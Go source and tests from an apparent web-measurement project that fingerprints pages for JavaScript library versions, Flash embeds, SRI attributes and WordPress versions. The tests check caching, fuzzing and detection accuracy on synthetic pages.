	fileVersion = regexp.MustCompile(`-(\d[0-9a-z.]*)$`)
	// atVersion matches npm-style "name@1.2.3" path segments.
	atVersion = regexp.MustCompile(`^(.+)@(\d+(?:\.\d+)*)$`)
	// wpGenerator extracts the version from a WordPress generator meta.
	wpGenerator = regexp.MustCompile(`(?i)^\s*wordpress\s+(\d+(?:\.\d+)*)`)
)

// Page fingerprints an HTML document. pageHost is the host the page was
// fetched from; it decides internal vs external inclusion for absolute URLs.
func Page(html string, pageHost string) Detection {
	var det Detection
	els := htmlx.Elements(html)
	var inFlashObject bool
	var flash FlashHit
	var flashSeen bool

	for _, el := range els {
		tag := el.Tag
		switch tag.Name {
		case "script":
			det.ScriptCount++
			det.Resources.JavaScript = true
			if src, ok := tag.Attr("src"); ok && src != "" {
				det.scanScriptSrc(tag, src, pageHost)
			}
			if el.Body != "" {
				if strings.Contains(el.Body, "swfobject.embedSWF") {
					flash.ViaSWFObject = true
					flash.Visible = true // script embeds render into a slot
					flashSeen = true
					det.Resources.Flash = true
				}
			}
		case "link":
			rel, _ := tag.Attr("rel")
			href, _ := tag.Attr("href")
			rel = strings.ToLower(rel)
			switch {
			case strings.Contains(rel, "stylesheet"):
				det.Resources.CSS = true
				if strings.Contains(href, ".php") {
					det.Resources.ImportedHTML = true
				}
			case strings.Contains(rel, "icon"):
				det.Resources.Favicon = true
			case strings.Contains(rel, "alternate"):
				if typ, _ := tag.Attr("type"); strings.Contains(typ, "xml") ||
					strings.HasSuffix(href, ".xml") {
					det.Resources.XML = true
				}
			}
			if strings.Contains(strings.ToLower(href), "/wp-content/") {
				det.WordPressSeen = true
			}
		case "meta":
			if name, _ := tag.Attr("name"); strings.EqualFold(name, "generator") {
				content, _ := tag.Attr("content")
				if m := wpGenerator.FindStringSubmatch(content); m != nil {
					if v, err := semver.Parse(m[1]); err == nil {
						det.WordPress = v
						det.WordPressSeen = true
					}
				}
			}
		case "svg":
			det.Resources.SVG = true
		case "object":
			inFlashObject = isFlashObject(tag)
			if inFlashObject {
				det.Resources.Flash = true
				flashSeen = true
				if !offScreen(tag) {
					flash.Visible = true
				}
			}
		case "param":
			if name, _ := tag.Attr("name"); strings.EqualFold(name, "allowscriptaccess") {
				flash.ScriptAccessParam = true
				flashSeen = true
				if val, _ := tag.Attr("value"); strings.EqualFold(val, "always") {
					flash.Always = true
				}
			}
			if val, _ := tag.Attr("value"); strings.HasSuffix(strings.ToLower(val), ".swf") {
				det.Resources.Flash = true
				flashSeen = true
			}
		case "embed":
			if src, _ := tag.Attr("src"); strings.HasSuffix(strings.ToLower(src), ".swf") {
				det.Resources.Flash = true
				flashSeen = true
				// A standalone embed's visibility is its own; one inside
				// a Flash <object> follows the object's styling.
				if !inFlashObject && !offScreen(tag) {
					flash.Visible = true
				}
			}
			if v, ok := tag.Attr("allowscriptaccess"); ok {
				flash.ScriptAccessParam = true
				flashSeen = true
				if strings.EqualFold(v, "always") {
					flash.Always = true
				}
			}
		}
	}
	if flashSeen {
		det.Flash = &flash
	}
	return det
}

// offScreen reports whether a tag's inline style hides it or positions it
// outside the viewport — the invisible-Flash pattern of Section 8.
func offScreen(tag htmlx.Token) bool {
	style, ok := tag.Attr("style")
	if !ok {
		return false
	}
	style = strings.ToLower(style)
	return strings.Contains(style, "-9999px") ||
		strings.Contains(style, "display:none") ||
		strings.Contains(style, "display: none") ||
		strings.Contains(style, "visibility:hidden") ||
		strings.Contains(style, "visibility: hidden")
}

// isFlashObject reports whether an <object> tag is a Flash embed.
func isFlashObject(tag htmlx.Token) bool {
	if classid, _ := tag.Attr("classid"); strings.Contains(strings.ToUpper(classid), "D27CDB6E") {
		return true
	}
	if typ, _ := tag.Attr("type"); strings.Contains(typ, "shockwave-flash") {
		return true
	}
	if data, _ := tag.Attr("data"); strings.HasSuffix(strings.ToLower(data), ".swf") {
		return true
	}
	return false
}

// scanScriptSrc classifies one script URL.
func (det *Detection) scanScriptSrc(tag htmlx.Token, src, pageHost string) {
	lowSrc := strings.ToLower(src)
	if strings.Contains(lowSrc, ".axd") {
		det.Resources.AXD = true
	}
	if strings.Contains(lowSrc, ".php") {
		det.Resources.ImportedHTML = true
	}
	if strings.Contains(lowSrc, "/wp-includes/") || strings.Contains(lowSrc, "/wp-content/") {
		det.WordPressSeen = true
	}

	u, err := url.Parse(src)
	if err != nil {
		return
	}
	external := u.Host != "" && !strings.EqualFold(u.Host, pageHost)
	host := u.Host

	slug, ver, known := identifyLibrary(u)
	if slug == "" {
		return
	}
	hit := LibraryHit{
		Slug: slug, Known: known, Version: ver,
		External: external, Host: host, SourceURL: src,
	}
	if _, ok := tag.Attr("integrity"); ok {
		hit.SRI = true
	}
	if co, ok := tag.Attr("crossorigin"); ok {
		if co == "" {
			co = "anonymous" // bare attribute defaults to anonymous
		}
		hit.Crossorigin = strings.ToLower(co)
	}
	det.Libraries = append(det.Libraries, hit)
}

// identifyLibrary resolves (slug, version, known) for a script URL.
func identifyLibrary(u *url.URL) (string, semver.Version, bool) {
	segs := splitPath(u.Path)
	if len(segs) == 0 {
		return "", semver.Version{}, false
	}
	file := strings.ToLower(segs[len(segs)-1])
	if !strings.HasSuffix(file, ".js") {
		return "", semver.Version{}, false
	}
	base := normalizeBase(strings.TrimSuffix(file, ".js"))

	// npm-style name@version anywhere in the path.
	var atName string
	var atVer semver.Version
	for _, seg := range segs {
		if m := atVersion.FindStringSubmatch(seg); m != nil {
			atName = strings.ToLower(m[1])
			if v, err := semver.Parse(m[2]); err == nil {
				atVer = v
			}
		}
	}

	// Version from the file name ("jquery-1.12.4", "swfobject-2.2").
	var fileVer semver.Version
	if m := fileVersion.FindStringSubmatch(base); m != nil {
		if v, err := semver.Parse(m[1]); err == nil && len(v.Parts) > 0 {
			fileVer = v
			base = strings.TrimSuffix(base, m[0])
			base = normalizeBase(base)
		}
	}

	// Resolve the slug: exact file-base match, then npm package name, then
	// a known slug appearing as a path segment.
	slug, known := knownBases[base]
	if !known && atName != "" {
		if s, ok := knownBases[atName]; ok {
			slug, known = s, true
		}
	}
	pathSlug := findPathSlug(segs)
	if !known && pathSlug != "" {
		slug, known = pathSlug, true
	}
	if slug == "" {
		// Unknown library: report the normalized base as a generic slug.
		slug = base
	}
	// jquery-ui served as /ui/1.12.1/jquery-ui.min.js keeps its base name;
	// a bare "jquery" base under a jquery-ui path is the UI bundle.
	if known && pathSlug != "" && pathSlug != slug && isMoreSpecific(pathSlug, slug) {
		slug = pathSlug
	}

	ver := pickVersion(fileVer, atVer, segs, u)
	// A bare unknown name with no version signal (app.js, theme.js) is a
	// site script, not a library; requiring a version mirrors how
	// real-world detectors avoid that false-positive class.
	if !known && ver.IsZero() {
		return "", semver.Version{}, false
	}
	return slug, ver, known
}

// isMoreSpecific prefers plugin slugs over their host library when both
// match ("jquery-ui" over "jquery").
func isMoreSpecific(a, b string) bool {
	return strings.HasPrefix(a, b+"-") || strings.HasPrefix(a, b+".")
}

// pickVersion chooses the version by source priority: file suffix, @version,
// version-looking path segment, then query cache-buster.
func pickVersion(fileVer, atVer semver.Version, segs []string, u *url.URL) semver.Version {
	if !fileVer.IsZero() {
		return fileVer
	}
	if !atVer.IsZero() {
		return atVer
	}
	for _, seg := range segs {
		if versionSeg.MatchString(seg) {
			if v, err := semver.Parse(strings.TrimPrefix(seg, "v")); err == nil {
				return v
			}
		}
	}
	q := u.Query()
	for _, key := range []string{"ver", "v", "version"} {
		if val := q.Get(key); val != "" {
			if v, err := semver.Parse(val); err == nil {
				return v
			}
		}
	}
	return semver.Version{}
}

// findPathSlug returns a known slug appearing as its own path segment.
func findPathSlug(segs []string) string {
	for _, want := range knownPathSlugs {
		for _, seg := range segs {
			if strings.EqualFold(seg, want) {
				return want
			}
		}
	}
	return ""
}

// normalizeBase strips minification/bundle suffixes from a file base.
func normalizeBase(base string) string {
	for {
		switch {
		case strings.HasSuffix(base, ".min"):
			base = strings.TrimSuffix(base, ".min")
		case strings.HasSuffix(base, "-min"):
			base = strings.TrimSuffix(base, "-min")
		case strings.HasSuffix(base, ".pkgd"):
			base = strings.TrimSuffix(base, ".pkgd")
		case strings.HasSuffix(base, ".slim"):
			base = strings.TrimSuffix(base, ".slim")
		default:
			return base
		}
	}
}

func splitPath(p string) []string {
	var out []string
	for _, seg := range strings.Split(p, "/") {
		if seg != "" {
			out = append(out, seg)
		}
	}
	return out
}

// HostKind re-exports the CDN classification for a hit's host, for
// convenience in analyses.
func (h LibraryHit) HostKind() cdn.HostKind { return cdn.Classify(h.Host) }
