package fingerprint

import (
	"math/rand"
	"reflect"
	"sync"
	"testing"

	"clientres/internal/webgen"
)

// TestMemoMatchesPageOnRenderedPages is the semantics-preservation
// property: over randomized generator-rendered pages — including many
// repeats, the cache-hit case — the memoized path must return Detections
// deep-equal to the uncached Page for every single call.
func TestMemoMatchesPageOnRenderedPages(t *testing.T) {
	e := webgen.New(webgen.Config{Domains: 120, Seed: 11})
	memo := NewMemo(0)
	r := rand.New(rand.NewSource(7))
	calls, hitsSeen := 0, false
	for i := 0; i < 2000; i++ {
		site := r.Intn(len(e.Sites))
		// Cluster weeks so unchanged pages recur, exercising cache hits.
		week := r.Intn(8) * 25
		html, status := e.PageHTML(site, week)
		if status != 200 {
			continue
		}
		host := e.Sites[site].Domain.Name
		want := Page(html, host)
		got := memo.Page(html, host)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("site %d week %d: memoized detection differs\n got %+v\nwant %+v",
				site, week, got, want)
		}
		calls++
	}
	hits, misses := memo.Stats()
	hitsSeen = hits > 0
	if !hitsSeen {
		t.Error("property run never hit the cache — repeats not exercised")
	}
	if int(hits+misses) != calls {
		t.Errorf("stats %d+%d don't add up to %d calls", hits, misses, calls)
	}
}

// TestMemoHostSensitivity: the same content fetched from two hosts must
// not share a cache entry — internal/external classification depends on
// the serving host.
func TestMemoHostSensitivity(t *testing.T) {
	html := `<html><head><script src="https://cdn.example/jquery-1.12.4.min.js"></script></head></html>`
	memo := NewMemo(0)
	fromCDN := memo.Page(html, "cdn.example")
	fromSite := memo.Page(html, "other.example")
	if len(fromCDN.Libraries) != 1 || len(fromSite.Libraries) != 1 {
		t.Fatalf("detection failed: %+v / %+v", fromCDN, fromSite)
	}
	if fromCDN.Libraries[0].External {
		t.Error("same-host inclusion classified external")
	}
	if !fromSite.Libraries[0].External {
		t.Error("cross-host inclusion classified internal — stale cache entry across hosts")
	}
}

// TestMemoEpochEviction: the cache stays bounded and stays correct
// across the wholesale reset.
func TestMemoEpochEviction(t *testing.T) {
	memo := NewMemo(8)
	for i := 0; i < 100; i++ {
		html := `<html><script src="/js/jquery-1.` + string(rune('0'+i%10)) + `.js"></script></html>`
		want := Page(html, "h.example")
		if got := memo.Page(html, "h.example"); !reflect.DeepEqual(got, want) {
			t.Fatalf("iteration %d: detection differs after eviction", i)
		}
		if len(memo.m) > 8 {
			t.Fatalf("cache grew to %d entries past its cap of 8", len(memo.m))
		}
	}
}

// TestMemoNil: a nil memo is the disabled cache and must behave exactly
// like plain Page.
func TestMemoNil(t *testing.T) {
	var memo *Memo
	html := `<html><script src="/jquery-3.5.1.min.js"></script></html>`
	if got, want := memo.Page(html, "x.example"), Page(html, "x.example"); !reflect.DeepEqual(got, want) {
		t.Errorf("nil memo differs from Page: %+v vs %+v", got, want)
	}
	if h, m := memo.Stats(); h != 0 || m != 0 {
		t.Errorf("nil memo stats = %d/%d", h, m)
	}
}

// TestMemoConcurrentPerShard models the deployment: one memo per shard,
// shards running concurrently over overlapping page content. Run under
// -race by scripts/check.sh, this pins that per-shard caches share no
// state through the package.
func TestMemoConcurrentPerShard(t *testing.T) {
	e := webgen.New(webgen.Config{Domains: 60, Seed: 13})
	type page struct{ html, host string }
	var pages []page
	for i := range e.Sites {
		if html, status := e.PageHTML(i, 40); status == 200 {
			pages = append(pages, page{html, e.Sites[i].Domain.Name})
		}
	}
	if len(pages) < 10 {
		t.Fatal("too few accessible pages")
	}
	var wg sync.WaitGroup
	for shard := 0; shard < 8; shard++ {
		wg.Add(1)
		go func(shard int) {
			defer wg.Done()
			memo := NewMemo(0) // private to this goroutine, as in core
			for round := 0; round < 3; round++ {
				for _, p := range pages {
					got := memo.Page(p.html, p.host)
					want := Page(p.html, p.host)
					if !reflect.DeepEqual(got, want) {
						t.Errorf("shard %d: concurrent memoized detection differs", shard)
						return
					}
				}
			}
		}(shard)
	}
	wg.Wait()
}
