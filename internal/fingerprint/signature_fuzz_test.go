package fingerprint

import (
	"reflect"
	"sort"
	"testing"

	"clientres/internal/vulndb"
)

// FuzzSignatureScan throws arbitrary bytes at the content-signature scanner
// and checks its hard invariants: no panics, determinism, ascending hit
// positions, at most one hit per library, every version a catalog member,
// and memoized scanning indistinguishable from cold scanning.
func FuzzSignatureScan(f *testing.F) {
	// Seeds: realistic bundles and the hostile shapes that found bugs in
	// scanners like this one — truncation mid-anchor, NULs, invalid UTF-8,
	// and version runs straddling the length limit.
	f.Add(`!function(){"use strict";` + "\n" +
		`/*! jQuery v1.12.4 | (c) the jquery contributors */` + "\n" +
		`!function(){var support={jquery:"1.12.4",expando:"jq0.1"};}();` + "\n" +
		`var __app={site:"x.example",build:"1"};}();`)
	f.Add(`var support={jquery:"1.12.`)
	f.Add("\x00\x00_.VERSION=\"1.8.3\";\x00")
	f.Add("\xff\xfePopper.version=\"1.16.1\"\xff")
	f.Add(`_.VERSION="1.8.`)
	f.Add(`/*! jQuery v`)
	f.Add(`/*! SWFObject v2.2.99999999999999999999999999999999`)
	f.Add(`VERSION:"` + `4.5.2"` + `VERSION:"4.5.3"`)
	f.Add("")

	f.Fuzz(func(t *testing.T, body string) {
		hits := ScanScript(body)
		again := ScanScript(body)
		if len(hits) != len(again) {
			t.Fatalf("non-deterministic: %d then %d hits", len(hits), len(again))
		}
		seen := map[string]bool{}
		for i, h := range hits {
			if !reflect.DeepEqual(h, again[i]) {
				t.Fatalf("non-deterministic hit %d: %+v vs %+v", i, h, again[i])
			}
			if seen[h.Slug] {
				t.Fatalf("duplicate hit for %q", h.Slug)
			}
			seen[h.Slug] = true
			if h.Pos < 0 || h.Pos >= len(body) {
				t.Fatalf("hit position %d outside body of %d bytes", h.Pos, len(body))
			}
			cat, ok := vulndb.CatalogFor(h.Slug)
			if !ok {
				t.Fatalf("hit for unknown library %q", h.Slug)
			}
			if _, ok := cat.Find(h.Version); !ok {
				t.Fatalf("hit %s@%s is not a catalog release", h.Slug, h.Version)
			}
		}
		if !sort.SliceIsSorted(hits, func(i, j int) bool {
			if hits[i].Pos != hits[j].Pos {
				return hits[i].Pos < hits[j].Pos
			}
			return hits[i].Slug < hits[j].Slug
		}) {
			t.Fatalf("hits not ordered by position: %+v", hits)
		}
		// The memoized path must agree with the cold path, first call
		// (miss) and second call (hit) alike.
		memo := NewMemo(4)
		for pass := 0; pass < 2; pass++ {
			mh := memo.ScanScript(body)
			if len(mh) != len(hits) {
				t.Fatalf("memo pass %d: %d hits vs %d cold", pass, len(mh), len(hits))
			}
			for i := range mh {
				if !reflect.DeepEqual(mh[i], hits[i]) {
					t.Fatalf("memo pass %d hit %d differs: %+v vs %+v", pass, i, mh[i], hits[i])
				}
			}
		}
	})
}
