package fingerprint

import (
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"

	"clientres/internal/cdn"
	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// Property: any (known library, catalog version, catalog host) triple built
// into a URL by the CDN module is detected back exactly — the generator and
// the detector agree on the URL grammar for the entire host × library ×
// version space, not just the hand-picked test cases.
func TestQuickCDNRoundTrip(t *testing.T) {
	libs := vulndb.Libraries()
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		lib := libs[r.Intn(len(libs))]
		cat, ok := vulndb.CatalogFor(lib.Slug)
		if !ok || len(cat.Releases) == 0 {
			return false
		}
		ver := cat.Releases[r.Intn(len(cat.Releases))].Version
		hosts := cdn.HostsForLibrary[lib.Slug]
		if len(hosts) == 0 {
			return true
		}
		host := hosts[r.Intn(len(hosts))].Host
		url := cdn.URL(host, lib.Slug, ver.String())
		det := Page(fmt.Sprintf(`<script src=%q></script>`, url), "site.example")
		if len(det.Libraries) != 1 {
			t.Logf("url %s: %d hits", url, len(det.Libraries))
			return false
		}
		hit := det.Libraries[0]
		if hit.Slug != lib.Slug || !hit.External || hit.Host != host {
			t.Logf("url %s: hit %+v", url, hit)
			return false
		}
		// polyfill's vN URLs keep only the major — compare accordingly.
		if lib.Slug == "polyfill" {
			return hit.Version.Major() == ver.Major()
		}
		if !hit.Version.Equal(ver) {
			t.Logf("url %s: version %s want %s", url, hit.Version, ver)
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}

// Property: version detection never invents a version — if a URL carries no
// version-shaped token, the hit has a zero version.
func TestQuickNoInventedVersions(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		libs := vulndb.Libraries()
		lib := libs[r.Intn(len(libs))]
		url := fmt.Sprintf("https://host%d.example/static/%s.min.js", r.Intn(50), cdn.FileBase(lib.Slug))
		det := Page(fmt.Sprintf(`<script src=%q></script>`, url), "site.example")
		if len(det.Libraries) != 1 {
			return false
		}
		return det.Libraries[0].Version.IsZero()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: detection output is deterministic.
func TestQuickDeterministic(t *testing.T) {
	f := func(html string) bool {
		a := Page(html, "site.example")
		b := Page(html, "site.example")
		if len(a.Libraries) != len(b.Libraries) || a.ScriptCount != b.ScriptCount {
			return false
		}
		for i := range a.Libraries {
			x, y := a.Libraries[i], b.Libraries[i]
			if x.Slug != y.Slug || !x.Version.Equal(y.Version) ||
				x.External != y.External || x.Host != y.Host ||
				x.SRI != y.SRI || x.Crossorigin != y.Crossorigin {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Keep the semver import honest (catalog versions round-trip through it).
var _ = semver.Version{}
