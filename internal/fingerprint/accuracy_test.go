package fingerprint

import (
	"reflect"
	"strings"
	"testing"

	"clientres/internal/cdn"
	"clientres/internal/htmlx"
	"clientres/internal/webgen"
)

// The detection-accuracy harness: render the synthetic web in four bundler
// modes, fingerprint every accessible page exactly the way the crawl path
// does (URL detection + same-site script-body scanning), and score the
// result against generator ground truth. This measures the bundling blind
// spot — URL-only detection collapses on bundled pages — and proves the
// signature scanner closes it for every library that carries a code-level
// discriminator.
//
// Ground truth per page is the (slug, version) set of t.Libs, minus
// version-control-hosted inclusions (both detection paths are deliberately
// version-blind there, mirroring the paper's methodology).

type accuracyMode struct {
	name     string
	bundling webgen.Bundling
}

var accuracyModes = []accuracyMode{
	{"plain", webgen.Bundling{}},
	{"bundled", webgen.Bundling{Fraction: 1, MinifyP: 0, BannerP: 1, SourceMapP: 0}},
	{"bundled+minified", webgen.Bundling{Fraction: 1, MinifyP: 1, BannerP: 0, SourceMapP: 0}},
	{"bundled+sourcemap", webgen.Bundling{Fraction: 1, MinifyP: 1, BannerP: 1, SourceMapP: 1}},
}

type accuracyScore struct {
	pages, bundledPages            int
	truthPairs, truthCode          int
	hitPairs, hitCode              int
	detected, falsePositive        int
	urlTruthBundled, urlHitBundled int
}

func (sc accuracyScore) recall() float64 {
	if sc.truthPairs == 0 {
		return 1
	}
	return float64(sc.hitPairs) / float64(sc.truthPairs)
}

func (sc accuracyScore) recallCode() float64 {
	if sc.truthCode == 0 {
		return 1
	}
	return float64(sc.hitCode) / float64(sc.truthCode)
}

func (sc accuracyScore) precision() float64 {
	if sc.detected == 0 {
		return 1
	}
	return float64(sc.detected-sc.falsePositive) / float64(sc.detected)
}

func (sc accuracyScore) urlRecallBundled() float64 {
	if sc.urlTruthBundled == 0 {
		return 1
	}
	return float64(sc.urlHitBundled) / float64(sc.urlTruthBundled)
}

// sameSiteScripts fetches a rendered page's same-site script bodies through
// AssetJS — the offline equivalent of the crawler's script fetching.
func sameSiteScripts(e *webgen.Ecosystem, i, week int, html string) []ScriptBody {
	var out []ScriptBody
	for _, src := range htmlx.ScriptSrcs(html) {
		if strings.HasPrefix(src, "//") || strings.Contains(src, "://") {
			continue
		}
		body, _ := e.AssetJS(i, week, src)
		out = append(out, ScriptBody{URL: src, Body: body})
	}
	return out
}

func scoreMode(t *testing.T, mode accuracyMode) accuracyScore {
	t.Helper()
	e := webgen.New(webgen.Config{Domains: 300, Weeks: 8, Seed: 77, Bundling: mode.bundling})
	var sc accuracyScore
	for i := range e.Sites {
		host := e.Sites[i].Domain.Name
		for _, w := range []int{0, 4, 7} {
			tr := e.Truth(i, w)
			html, status := e.PageHTML(i, w)
			if status != 200 || !tr.Accessible || tr.EmptyPage {
				continue
			}
			sc.pages++
			truth := map[string]string{}
			for _, lib := range tr.Libs {
				if lib.External && cdn.IsVersionControl(lib.Host) {
					continue // version-blind by design in both paths
				}
				truth[lib.Slug] = lib.Version.String()
			}

			det := PageWithScripts(html, host, sameSiteScripts(e, i, w, html))
			got := map[string]string{}
			for _, hit := range det.Libraries {
				if !hit.Known || hit.Version.IsZero() {
					continue
				}
				got[hit.Slug] = hit.Version.String()
			}
			for slug, ver := range truth {
				sc.truthPairs++
				hit := got[slug] == ver
				if hit {
					sc.hitPairs++
				}
				if HasCodeSignature(slug) {
					sc.truthCode++
					if hit {
						sc.hitCode++
					}
				}
			}
			for slug, ver := range got {
				sc.detected++
				if truth[slug] != ver {
					sc.falsePositive++
				}
			}

			if tr.Bundled {
				sc.bundledPages++
				urlGot := map[string]string{}
				for _, hit := range Page(html, host).Libraries {
					if hit.Known && !hit.Version.IsZero() {
						urlGot[hit.Slug] = hit.Version.String()
					}
				}
				for slug, ver := range truth {
					sc.urlTruthBundled++
					if urlGot[slug] == ver {
						sc.urlHitBundled++
					}
				}
			}
		}
	}
	if sc.pages == 0 {
		t.Fatalf("%s: no scorable pages", mode.name)
	}
	return sc
}

// TestDetectionAccuracyAcrossBundlerModes is the measured-accuracy gate:
//
//   - bundle-aware recall stays >= 0.95 for signature-detectable libraries
//     in every mode (and for ALL libraries when banners survive);
//   - precision stays >= 0.99 everywhere — the scanner invents nothing;
//   - URL-only detection on bundled pages recalls < 0.1 — the blind spot
//     this PR exists to measure.
//
// Run with -v to print the accuracy table (EXPERIMENTS.md carries a copy).
func TestDetectionAccuracyAcrossBundlerModes(t *testing.T) {
	t.Logf("%-18s %6s %8s %8s %8s %10s %10s", "mode", "pages", "bundled",
		"recall", "recall*", "precision", "url-recall")
	for _, mode := range accuracyModes {
		sc := scoreMode(t, mode)
		t.Logf("%-18s %6d %8d %8.4f %8.4f %10.4f %10.4f", mode.name, sc.pages,
			sc.bundledPages, sc.recall(), sc.recallCode(), sc.precision(), sc.urlRecallBundled())

		if sc.recallCode() < 0.95 {
			t.Errorf("%s: code-signature recall %.4f < 0.95", mode.name, sc.recallCode())
		}
		if sc.precision() < 0.99 {
			t.Errorf("%s: precision %.4f < 0.99", mode.name, sc.precision())
		}
		switch mode.name {
		case "plain":
			if sc.bundledPages != 0 {
				t.Errorf("plain mode generated %d bundled pages", sc.bundledPages)
			}
			if sc.recall() < 0.95 {
				t.Errorf("plain: recall %.4f < 0.95", sc.recall())
			}
		case "bundled", "bundled+sourcemap":
			// Banners survive, so even banner-only libraries resolve.
			if sc.recall() < 0.95 {
				t.Errorf("%s: full recall %.4f < 0.95 despite banners", mode.name, sc.recall())
			}
			if sc.urlRecallBundled() >= 0.1 {
				t.Errorf("%s: URL-only recall %.4f on bundles — blind spot missing?",
					mode.name, sc.urlRecallBundled())
			}
		case "bundled+minified":
			// Banner-stripped: banner-only libraries are the measured
			// casualty, so full recall must sit strictly below code recall
			// whenever any banner-only library was in truth.
			if sc.truthPairs > sc.truthCode && sc.recall() >= sc.recallCode() {
				t.Errorf("%s: full recall %.4f not below code recall %.4f — banner-only casualty missing",
					mode.name, sc.recall(), sc.recallCode())
			}
			if sc.urlRecallBundled() >= 0.1 {
				t.Errorf("%s: URL-only recall %.4f on bundles", mode.name, sc.urlRecallBundled())
			}
		}
	}
}

// TestPlainModeDetectionsIdenticalWithScanOnOrOff pins the BundleScan-off
// equivalence at the detection level: on a plain-mode (zero-Bundling)
// population, PageWithScripts over the fetched same-site bodies must return
// a Detection deep-equal to Page for every single page — scanning costs
// nothing and changes nothing when URLs already tell the whole story.
func TestPlainModeDetectionsIdenticalWithScanOnOrOff(t *testing.T) {
	e := webgen.New(webgen.Config{Domains: 200, Weeks: 6, Seed: 21})
	checked := 0
	for i := range e.Sites {
		host := e.Sites[i].Domain.Name
		for _, w := range []int{0, 3, 5} {
			html, status := e.PageHTML(i, w)
			if status != 200 {
				continue
			}
			base := Page(html, host)
			withScan := PageWithScripts(html, host, sameSiteScripts(e, i, w, html))
			if !reflect.DeepEqual(base, withScan) {
				t.Fatalf("site %d week %d: plain-mode detection changed under scanning:\n base %+v\n scan %+v",
					i, w, base, withScan)
			}
			checked++
		}
	}
	if checked < 100 {
		t.Fatalf("only %d pages checked", checked)
	}
}
