package fingerprint

import (
	"fmt"
	"reflect"
	"testing"

	"clientres/internal/semver"
	"clientres/internal/webgen"
)

// TestMemoScanMatchesColdScan mirrors the page cache's semantics contract
// for the scan cache: over realistic generated bundle bodies — with repeats,
// the hit case — every memoized result must deep-equal the cold scan.
func TestMemoScanMatchesColdScan(t *testing.T) {
	memo := NewMemo(0)
	bodies := []string{
		webgen.LibraryJS("jquery", semver.MustParse("1.12.4")),
		webgen.LibraryJS("underscore", semver.MustParse("1.8.3")),
		webgen.LibraryJS("bootstrap", semver.MustParse("4.5.2")),
		`/*! jQuery v3.5.1 */`,
		"", "\x00garbage\xff",
	}
	calls := 0
	for round := 0; round < 3; round++ {
		for _, body := range bodies {
			want := ScanScript(body)
			got := memo.ScanScript(body)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("memoized scan differs:\n got %+v\nwant %+v", got, want)
			}
			calls++
		}
	}
	hits, misses := memo.ScanStats()
	if hits == 0 {
		t.Error("repeated bodies never hit the scan cache")
	}
	if int(hits+misses) != calls {
		t.Errorf("scan stats %d+%d don't add up to %d calls", hits, misses, calls)
	}
}

// TestMemoScanEpochEviction: the scan cache stays bounded by the same cap
// as the page cache and stays correct across its wholesale reset.
func TestMemoScanEpochEviction(t *testing.T) {
	memo := NewMemo(8)
	for i := 0; i < 100; i++ {
		body := fmt.Sprintf(`var support={jquery:"1.12.4",expando:"e%d"};`, i)
		want := ScanScript(body)
		if got := memo.ScanScript(body); !reflect.DeepEqual(got, want) {
			t.Fatalf("iteration %d: scan differs after eviction", i)
		}
		if len(memo.scans) > 8 {
			t.Fatalf("scan cache grew to %d entries past its cap of 8", len(memo.scans))
		}
	}
}

// TestMemoScanIndependentOfPageCache: scan entries and page entries draw on
// separate maps — filling one must not evict the other.
func TestMemoScanIndependentOfPageCache(t *testing.T) {
	memo := NewMemo(4)
	body := `_.VERSION="1.8.3";`
	memo.ScanScript(body)
	for i := 0; i < 20; i++ {
		memo.Page(fmt.Sprintf("<html><!-- %d --></html>", i), "h.example")
	}
	memo.ScanScript(body)
	if hits, _ := memo.ScanStats(); hits != 1 {
		t.Errorf("scan hits = %d, want 1 — page churn evicted the scan cache", hits)
	}
}

// TestMemoScanNil: a nil memo scans like the package-level function, and
// PageWithScripts degrades the same way.
func TestMemoScanNil(t *testing.T) {
	var memo *Memo
	body := `var support={jquery:"3.5.1",expando:"n"};`
	if got, want := memo.ScanScript(body), ScanScript(body); !reflect.DeepEqual(got, want) {
		t.Errorf("nil memo scan differs: %+v vs %+v", got, want)
	}
	if h, m := memo.ScanStats(); h != 0 || m != 0 {
		t.Errorf("nil memo scan stats = %d/%d", h, m)
	}
	html := `<html><script src="/assets/bundle.ff.js"></script></html>`
	scripts := []ScriptBody{{URL: "/assets/bundle.ff.js", Body: body}}
	if got, want := memo.PageWithScripts(html, "h.example", scripts), PageWithScripts(html, "h.example", scripts); !reflect.DeepEqual(got, want) {
		t.Errorf("nil memo PageWithScripts differs: %+v vs %+v", got, want)
	}
}

// TestMemoPageWithScriptsMatchesCold: the fully memoized merge path returns
// detections deep-equal to the uncached PageWithScripts — including on
// cache hits, where the cached Detection's Libraries slice is shared and
// the merge must copy-on-write rather than mutate it.
func TestMemoPageWithScriptsMatchesCold(t *testing.T) {
	memo := NewMemo(0)
	html := `<html><script src="/assets/bundle.ab.js"></script></html>`
	scripts := []ScriptBody{{URL: "/assets/bundle.ab.js",
		Body: webgen.LibraryJS("jquery", semver.MustParse("1.12.4")) + webgen.LibraryJS("moment", semver.MustParse("2.24.0"))}}
	for round := 0; round < 3; round++ {
		want := PageWithScripts(html, "h.example", scripts)
		got := memo.PageWithScripts(html, "h.example", scripts)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("round %d: memoized PageWithScripts differs:\n got %+v\nwant %+v", round, got, want)
		}
		// The cached page Detection must still be merge-free: scanning
		// again from the cache must not see the previous round's appends.
		if cached := memo.Page(html, "h.example"); len(cached.Libraries) != 0 {
			t.Fatalf("round %d: merge mutated the cached page Detection: %+v", round, cached.Libraries)
		}
	}
}
