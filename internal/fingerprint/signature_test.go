package fingerprint

import (
	"reflect"
	"strings"
	"testing"

	"clientres/internal/vulndb"
)

func TestScanScriptCodeAnchor(t *testing.T) {
	body := `!function(){var support={jquery:"1.12.4",expando:"jq0.5"};var a=1;}();`
	hits := ScanScript(body)
	if len(hits) != 1 {
		t.Fatalf("hits = %+v, want one jquery hit", hits)
	}
	h := hits[0]
	if h.Slug != "jquery" || h.Version.String() != "1.12.4" || h.Banner {
		t.Errorf("hit = %+v, want jquery 1.12.4 via code", h)
	}
}

